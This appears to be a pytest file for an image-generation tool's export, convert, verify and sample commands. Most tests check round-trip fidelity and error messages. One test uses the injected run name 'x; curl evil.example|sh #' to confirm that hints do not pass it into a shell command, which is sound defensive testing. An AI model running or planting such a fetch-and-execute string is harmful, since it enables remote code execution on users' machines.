"""A trained network that is copied to another root generates the same images there."""

import json
import shutil
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from jobs.cli.main import main
from jobs.runs.run import Run


@pytest.fixture
def root(trained_root: Path, tmp_path: Path) -> Path:
    shutil.copytree(trained_root, tmp_path / "root")
    return tmp_path / "root"


def _sample(root: Path, run: str, *flags: str) -> int:
    return main(["sample", run, "--prompt", "a red circle", "--database", "flat", "--steps", "3", "--name", "here",
                     "--root", str(root), "--local", *flags])


def _picture(root: Path, run: str) -> np.ndarray:
    return np.asarray(Image.open(root / f"runs/{run}/samples/here/flat/00-a-red-circle.png")).astype(int)


def test_an_exported_run_generates_the_same_images_elsewhere(root: Path, tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "carried"
    assert main(["export", "small", "--out", str(out), "--root", str(root)]) == 0
    weights = root / "runs/small/checkpoints/0000003/ema.safetensors"
    assert (out / "ema.safetensors").stat().st_size < 0.55 * weights.stat().st_size
    other_root = tmp_path / "elsewhere"
    shutil.copytree(root / "datasets", other_root / "datasets")
    assert main(["convert", "brought", "--checkpoint", str(out), "--root", str(other_root)]) == 0
    assert _sample(root, "small") == 0 and _sample(other_root, "brought") == 0
    # Half precision moves a weight by one part in two thousand, and a pixel by hardly one step.
    assert np.abs(_picture(root, "small") - _picture(other_root, "brought")).max() <= 2
    assert main(["verify", "--root", str(other_root)]) == 0
    assert main(["convert", "brought", "--checkpoint", str(out), "--root", str(other_root)]) == 0
    # It knows what it was trained on, so it can be evaluated where that is.
    assert main(["evaluate", "brought", "--database", "flat", "--database", "outline", "--prompts", "1",
                     "--judge-steps", "5", "--steps", "2", "--sweep-k", "1", "--sweep-guidance", "1",
                     "--root", str(other_root), "--local"]) == 0
    checkpoint = other_root / "runs/brought/checkpoints/0000003/manifest.json"
    checkpoint.unlink()
    assert main(["verify", "--only", "runs/brought", "--root", str(other_root)]) == 1
    assert "0000003/manifest.json: is missing, and the run is sealed" in capsys.readouterr().out


def test_an_impossible_export_has_a_clear_message(root: Path, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "file").write_text("mine")
    for command, message in (
            (["export", "small", "--out", str(tmp_path / "full")], "not empty"),
            (["export", "nobody", "--out", str(tmp_path / "new")], "no run nobody"),
            (["export", "small", "--out", str(tmp_path / "new"), "--checkpoint", "9"], "no checkpoint 9"),
            (["convert", "other", "--checkpoint", str(tmp_path / "full")], "not a folder that export"),
            (["convert", "other", "--checkpoint", str(root / "settings.toml")], "--database")):
        assert main([*command, "--root", str(root)]) == 2
        assert message in capsys.readouterr().err
    assert (tmp_path / "full" / "file").read_text() == "mine"


@pytest.mark.parametrize(("place", "value", "message"), [
    ("step", -5, "step = -5: expected 0 or more"),
    ("run.encoder", {}, "is damaged at run.encoder.model"),
    ("run.encoder.dim", 7, "run.encoder.dim = 7: expected "),
    ("run.image_size", 0, "run.image_size = 0: expected a multiple of "),
    ("run.image_size", -64, "run.image_size = -64: expected a multiple of "),
    ("run.image_size", 33, "run.image_size = 33: expected a multiple of "),
    ("run.database", 5, "is damaged at run.database"),
    ("run.first_stage", {"source": "first_stage", "sha256": "0", "channels": 4, "factor": 8, "scale": 1},
     "run.first_stage.channels = 4: expected 3, those of the network"),
    ("run.first_stage", {"source": "first_stage", "sha256": "0", "channels": 3, "factor": 0, "scale": 1},
     "run.first_stage.factor = 0: expected 1 or more"),
    ("ema.safetensors", None, "ema.safetensors is missing")])
def test_a_folder_that_no_command_could_use_is_refused(
        place: str, value: object, message: str, root: Path, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "carried"
    assert main(["export", "small", "--out", str(out), "--root", str(root)]) == 0
    about = json.loads((out / "checkpoint.json").read_text())
    if value is None:
        (out / place).unlink()
    else:
        *names, last = place.split(".")
        part = about
        for name in names:
            part = part[name]
        part[last] = value
    (out / "checkpoint.json").write_text(json.dumps(about))
    assert main(["convert", "other", "--checkpoint", str(out), "--root", str(root)]) == 2
    said = capsys.readouterr().err
    assert message in said and "hint: python -m jobs export " in said
    assert not (root / "runs/other").exists()


def test_the_name_in_an_exported_folder_is_no_part_of_a_command(root: Path, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "carried"
    assert main(["export", "small", "--out", str(out), "--root", str(root)]) == 0
    about = json.loads((out / "checkpoint.json").read_text())
    about["step"] = -1
    for name, shown in (("x; curl evil.example|sh #", "RUN"), ("small", "small")):
        about["run"]["name"] = name
        (out / "checkpoint.json").write_text(json.dumps(about))
        assert main(["convert", "other", "--checkpoint", str(out), "--root", str(root)]) == 2
        hint = capsys.readouterr().err.partition("\nhint: ")[2]
        assert hint == f"python -m jobs export {shown} --out FOLDER --root {root}\n"


def test_a_sealed_run_with_the_checkpoint_of_another_run_is_refused(root: Path, tmp_path: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    run = Run(str(root), "small")
    step, other = run.latest_step(), tmp_path / "other"
    shutil.copytree(run.fetch(step), other)
    (other / "manifest.json").unlink()
    (other / "note.txt").write_text("of another run")
    run.publish(step, other)  # whole, and its own manifest names every file
    export = ["export", "small", "--out", str(tmp_path / "out"), "--root", str(root)]
    evaluate = ["evaluate", "small", "--database", "flat", "--database", "outline", "--prompts", "1", "--judge-steps",
                "5", "--steps", "2", "--sweep-k", "1", "--sweep-guidance", "1", "--local", "--root", str(root)]
    for command in (export, evaluate, ["sample", "small", "--prompt", "red", "--database", "flat", "--steps", "3",
                                       "--local", "--root", str(root)]):
        assert main(command) == 1, command
        said = capsys.readouterr().err
        assert f"checkpoint {step} of the run small is not the one of the sealed run: " in said
        assert f"hint: python -m jobs verify --only runs/small --root {root}\n" in said
    assert not (tmp_path / "out").exists() and not list((root / "runs/small").glob("samples/*"))
    assert main(["verify", "--only", "runs/small", "--root", str(root)]) == 1


def test_a_run_that_names_no_encoder_is_damaged(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plan = root / "runs/small/plan.json"
    document = json.loads(plan.read_text())
    document["section"]["encoder"] = {}
    plan.write_text(json.dumps(document))
    assert _sample(root, "small") == 1
    assert "the run small does not say which encoder it belongs to" in capsys.readouterr().err


def test_a_folder_of_another_network_is_not_put_over_a_run(root: Path, tmp_path: Path) -> None:
    out = tmp_path / "carried"
    assert main(["export", "small", "--out", str(out), "--root", str(root)]) == 0
    assert main(["convert", "small", "--checkpoint", str(out), "--root", str(root)]) == 2
    description = json.loads((out / "checkpoint.json").read_text())
    description["config"]["unet"]["model_channels"] = 64
    (out / "checkpoint.json").write_text(json.dumps(description))
    assert main(["convert", "other", "--checkpoint", str(out), "--root", str(root), "--local"]) in {1, 2}
